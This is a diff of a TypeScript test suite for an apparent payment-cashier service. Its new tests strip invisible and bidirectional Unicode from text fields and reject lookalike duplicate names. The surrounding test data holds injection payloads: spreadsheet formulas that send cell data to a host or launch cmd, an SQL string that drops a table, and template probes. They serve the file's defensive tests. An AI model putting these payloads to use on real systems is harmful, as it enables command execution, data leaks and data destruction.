@@ -17,9 +17,7 @@ const KEPT: Record<string, string> = {
   entities: '&lt;b&gt; &amp; &#x202e;',
   'a formula': '=HYPERLINK("http://x.gt?"&A1,"Premio")',
   'a formula with a sign': '+cmd|" /C calc"!A0',
-  'a right-to-left mark': 'pago \u202e05.521Q\u202c de María',
-  'zero-width signs': 'a\u200bb\u200d\ufeffc',
-  emoji: '👩‍👩‍👧‍👦 🇬🇹 ¡gracias! 🧾',
+  emoji: '👩‍👩‍👧‍👦 🇬🇹 ❤️ ¡gracias! 🧾',
   'marks piled up': 'Z̷̡̢a̸͜l̵̨g̶o̷',
   SQL: `'); drop table transactions; --`,
   'a template': '{{7*7}} <%= 7*7 %> %s %n',
@@ -83,6 +81,84 @@ for (const [what, text] of Object.entries(REJECTED)) {
     }
   });
 }
+
+test('what nobody can see is taken out of notes, reasons and searches', async () => {
+  const note = 'pago \u202e05.521Q\u202c de\u200b María\ufeff';
+  const seen = 'pago 05.521Q de María';
+  const { transaction } = dataOf(
+    await cashier.transactions.sendRequest({ friUserId: 'au_maria', amount: 1, note }),
+  );
+  const canceled = await cashier.transactions.cancelRequest({ transactionId: transaction.id, reason: note });
+  assert.equal([transaction.note, dataOf(canceled).transaction.statusReason], [seen, seen]);
+  const page = { currentPage: 1, pageSize: 10 };
+  const found = dataOf(await admin.transactions.history({ search: `${seen}\u2060`, pageProperties: page }));
+  assert.equal(
+    found.data.map(({ id }) => id),
+    [transaction.id],
+  );
+});
+
+for (const text of [
+  '\u200b',
+  '\u2060',
+  '\u2800',
+  '\u3164',
+  '\u00ad',
+  '\u{e0061}',
+  '\u202d\u202c',
+  ' \u0085 ',
+]) {
+  test(`a name, an address or a reason of only ${JSON.stringify(text)} is missing`, async () => {
+    const transactionId = await receive(sandbox.database, 'us_caja1', 1);
+    const cashierData = {
+      username: 'tiendaluna-centro-nadie',
+      emailAddress: 'nadie@luna.gt',
+      referenceId: 'C1',
+    };
+    const branch = { id: 'br_centro', regionId: 'gt-01-01-z10', referenceId: 'C1' };
+    const responses = {
+      name: [
+        await admin.cashiers.create({ ...cashierData, name: text, businessBranchId: 'br_centro' }),
+        await admin.cashiers.modify({ userId: 'us_luna', level: 'Business', name: text }),
+        await admin.branches.update({ ...branch, name: text, address: 'Zona 1' }),
+      ],
+      address: [await admin.branches.update({ ...branch, name: 'Centro', address: text })],
+      reason: [await admin.transactions.refund({ transactionId, reason: text })],
+      countReason: [await cashier.closings.close({ countedAmount: 1, countReason: text })],
+    };
+    for (const [field, all] of Object.entries(responses))
+      for (const response of all)
+        assert.equal(failureOf(response).fields, [{ field, message: 'Este campo es requerido' }]);
+  });
+}
+
+test('a name that looks like another is that name, however it is written', async () => {
+  const as = (name: string, username: string) => ({
+    name,
+    username: `tiendaluna-centro-${username}`,
+    emailAddress: 'caja@luna.gt',
+    referenceId: 'C1',
+    businessBranchId: 'br_centro',
+  });
+  // As a version before this rule stored it.
+  await sandbox.database.query(`update users set name = E'Caja\\u00ad 1' where id = 'us_caja1'`);
+  for (const name of [
+    'Caja 1',
+    'Caja 1\u200b',
+    '\u202dCAJA 1',
+    'Caja\u28001',
+    'Ｃａｊａ １',
+    'Caja 1\ufe0f',
+    'Ca\u200dja ①',
+  ]) {
+    const { status, fields } = failureOf(await admin.cashiers.create(as(name, 'otra')));
+    assert.equal([status, fields?.[0]?.field], [409, 'name'], escape(name));
+  }
+  assert.ok(
+    (await admin.cashiers.create(as('Сaja 1', 'cirilica'))).ok,
+    'letters of another script are others',
+  );
+});
 
 for (const reference of ['=C1', '-C1', '<C1>', 'C1 C2', 'C1\u202e', 'Ç1', '👍']) {
   test(`a reference ‘${reference}’ is rejected: it may only have letters and digits`, async () => {
